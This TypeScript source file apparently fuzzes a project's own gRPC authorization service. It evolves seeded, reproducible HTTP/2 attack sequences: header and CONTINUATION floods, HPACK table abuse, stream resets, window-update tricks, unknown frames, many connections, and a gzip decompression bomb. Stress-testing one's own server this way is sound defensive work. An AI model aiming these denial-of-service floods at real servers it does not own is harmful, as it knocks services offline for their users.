/**
 * Attacks on HTTP/2 that a generator makes: which frames with which fields, in which order, on how many
 * connections. The same seed makes the same attacks, and an attack is JSON, so that one that was found can be
 * repeated.
 */
import { gzipSync } from 'node:zlib'
import { CheckRequest } from '../../../proto/gen/portcullis/v1/authorization.ts'
import {
  callOf,
  END_HEADERS,
  END_STREAM,
  FRAME,
  field,
  frame,
  messageFrame,
  settingsOf,
  uint32,
} from '../http2/frames.ts'
import type { Flood } from './flood.ts'

const SERVICE = '/portcullis.v1.AuthorizationService'

/** Frames in the order in which they are sent, again and again. */
export interface Genome {
  readonly connections: number
  readonly reads: boolean
  /** The window of each stream of the attacker, in bytes. */
  readonly window: number
  readonly genes: readonly Gene[]
}

/** One frame, or the frames of a header block. */
export interface Gene {
  readonly kind: (typeof KINDS)[number]
  /** Of a new stream, of the one before, or of none. */
  readonly on: (typeof TARGETS)[number]
  /** How much of what the kind has: fields, parts, bytes. From 0 to 1. */
  readonly size: number
  readonly ends: boolean
  readonly variant: number
}

const TARGETS = ['new', 'same', 'earlier'] as const
const KINDS = ['headers', 'data', 'reset', 'window', 'ping', 'settings', 'priority', 'unknown'] as const

export function randomGenome(random: () => number): Genome {
  return {
    connections: Math.ceil(150 ** random()),
    reads: random() < 0.7,
    window: pick(random, [0, 1, 65_535, 2 ** 31 - 1]),
    genes: Array.from({ length: 1 + Math.floor(5 * random()) }, () => randomGene(random)),
  }
}

function randomGene(random: () => number): Gene {
  return {
    kind: random() < 0.4 ? 'headers' : pick(random, KINDS),
    on: pick(random, TARGETS),
    size: random() ** 2,
    ends: random() < 0.5,
    variant: Math.floor(8 * random()),
  }
}

/** Another attack that is like this one, with a part of another one now and then. */
export function mutated(genome: Genome, other: Genome, random: () => number): Genome {
  const genes = [...genome.genes]
  const at = Math.floor(genes.length * random())
  const change = random()
  if (change < 0.3) genes.splice(at, 1, randomGene(random))
  else if (change < 0.5) genes.splice(at, 0, randomGene(random))
  else if (change < 0.7 && genes.length > 1) genes.splice(at, 1)
  else genes.push(...other.genes.slice(0, 2))
  const fresh = randomGenome(random)
  return {
    connections: random() < 0.3 ? fresh.connections : genome.connections,
    reads: random() < 0.1 ? fresh.reads : genome.reads,
    window: random() < 0.1 ? fresh.window : genome.window,
    genes: genes.slice(0, 8),
  }
}

function pick<T>(random: () => number, from: readonly T[]): T {
  return from[Math.floor(from.length * random())] as T
}

/** The attack as bytes. */
export function floodOf({ connections, reads, window, genes }: Genome): Flood {
  return {
    connections,
    ...(reads ? {} : { reads: false as const }),
    opening: Buffer.concat([
      frame(FRAME.settings, { payload: settingsOf({ 4: window }) }),
      frame(FRAME.windowUpdate, { payload: uint32(2 ** 31 - 1 - 65_535) }),
      headers(1, { kind: 'headers', on: 'new', size: 0, ends: false, variant: 0 }),
    ]),
    frames: (stream) => {
      // The opening has the first stream.
      let newest = stream + 2
      let opened = false
      return Buffer.concat(
        genes.map((gene) => {
          if (gene.on === 'new' && !opened) opened = true
          const id = gene.on === 'earlier' || !opened ? Math.max(1, newest - 2) : newest
          newest = Math.max(newest, id)
          return bytesOf(gene, id)
        }),
      )
    },
  }
}

function bytesOf(gene: Gene, stream: number): Buffer {
  const { kind, size, variant } = gene
  switch (kind) {
    case 'headers':
      return headers(stream, gene)
    case 'data':
      return data(stream, gene)
    case 'reset':
      return frame(FRAME.rstStream, { stream, payload: uint32(variant) })
    case 'window': {
      const increment = [0, 1, 1_000, 2 ** 31 - 1][variant % 4] as number
      return frame(FRAME.windowUpdate, { stream: variant < 4 ? stream : 0, payload: uint32(increment) })
    }
    case 'ping':
      return frame(FRAME.ping, { flags: variant % 2, payload: Buffer.alloc(8) })
    case 'settings':
      return frame(FRAME.settings, {
        payload: settingsOf({ [1 + (variant % 6)]: Math.floor(size * 65_536) }),
      })
    case 'priority':
      return frame(FRAME.priority, { stream, payload: Buffer.alloc(5) })
    case 'unknown':
      return frame(0x42, { stream, payload: Buffer.alloc(Math.floor(size * 16_384)) })
  }
}

const LONG_NAME = Buffer.concat([
  Buffer.of(0x40, 0x7f, 0xa1, 0x1e),
  Buffer.alloc(4_000, 'x'),
  Buffer.of(1, 0x79),
])
/**
 * Fields that are sent again and again: a small one, one that enters the table, the newest of the table, its
 * name alone, one in Huffman's code.
 */
const FIELDS = [
  field('a', 'b'),
  Buffer.from('\x40\x01n\x01v'),
  Buffer.of(0xbe),
  Buffer.of(0x0f, 47, 1, 0x7a),
  Buffer.concat([Buffer.of(0x00, 0x01, 0x78, 0xff, 0x01), Buffer.alloc(128, 0x1f)]),
  field('authorization', `Bearer ${'x'.repeat(100)}`),
  field('x-auth-token', 'x'.repeat(110)),
  field('grpc-encoding', 'gzip'),
]
const PATHS = ['Check', 'CheckStream', 'GetMatrix', 'CheckBatch', 'Plan', 'Issue', 'WatchMatrix', 'Nothing']

function headers(stream: number, { size, ends, variant }: Gene): Buffer {
  const repeated = FIELDS[variant % FIELDS.length] as Buffer
  const count = Math.floor((size * 16_000) / repeated.length)
  const block = Buffer.concat([
    callOf(`${SERVICE}/${PATHS[variant % PATHS.length]}`),
    ...(variant === 3 && count > 0 ? [LONG_NAME] : []),
    ...Array<Buffer>(count).fill(repeated),
  ])
  const flags = ends ? END_STREAM : 0
  if (size < 0.5 || variant % 2 === 0)
    return frame(FRAME.headers, { flags: flags | END_HEADERS, stream, payload: block.subarray(0, 16_384) })
  const parts = Array.from({ length: 30 }, (_, index) => {
    const length = Math.ceil(block.length / 30)
    return block.subarray(index * length, (index + 1) * length)
  })
  return Buffer.concat(
    parts.map((payload, index) =>
      frame(index === 0 ? FRAME.headers : FRAME.continuation, {
        flags: (index === 0 ? flags : 0) | (index === parts.length - 1 ? END_HEADERS : 0),
        ...{ stream, payload },
      }),
    ),
  )
}

const CLAIMS = CheckRequest.encode({
  api: 'balance',
  subject: { $case: 'token', value: { kind: 'static_token', scope: { account: '123456', project: '' } } },
  target: undefined,
  clientAddress: '',
  request: undefined,
}).finish()
const BOMB = gzipSync(Buffer.alloc(4_000_000))

function data(stream: number, { size, ends, variant }: Gene): Buffer {
  const length = Math.floor(size * 16_000)
  const payloads: readonly (() => Buffer)[] = [
    () => Buffer.alloc(0),
    () => messageFrame(CLAIMS),
    () => Buffer.alloc(length),
    () => Buffer.concat([Buffer.of(0, 0, 0x3f, 0, 0), Buffer.alloc(length)]),
    () => Buffer.concat(Array<Buffer>(1 + Math.floor(size * 300)).fill(messageFrame(CLAIMS))),
    () => messageFrame(BOMB, 1).subarray(0, 16_384),
    () => messageFrame(Buffer.alloc(length, 0x08)),
    () => Buffer.alloc(1),
  ]
  const payload = (payloads[variant % payloads.length] as () => Buffer)()
  return frame(FRAME.data, { flags: ends ? END_STREAM : 0, stream, payload })
}
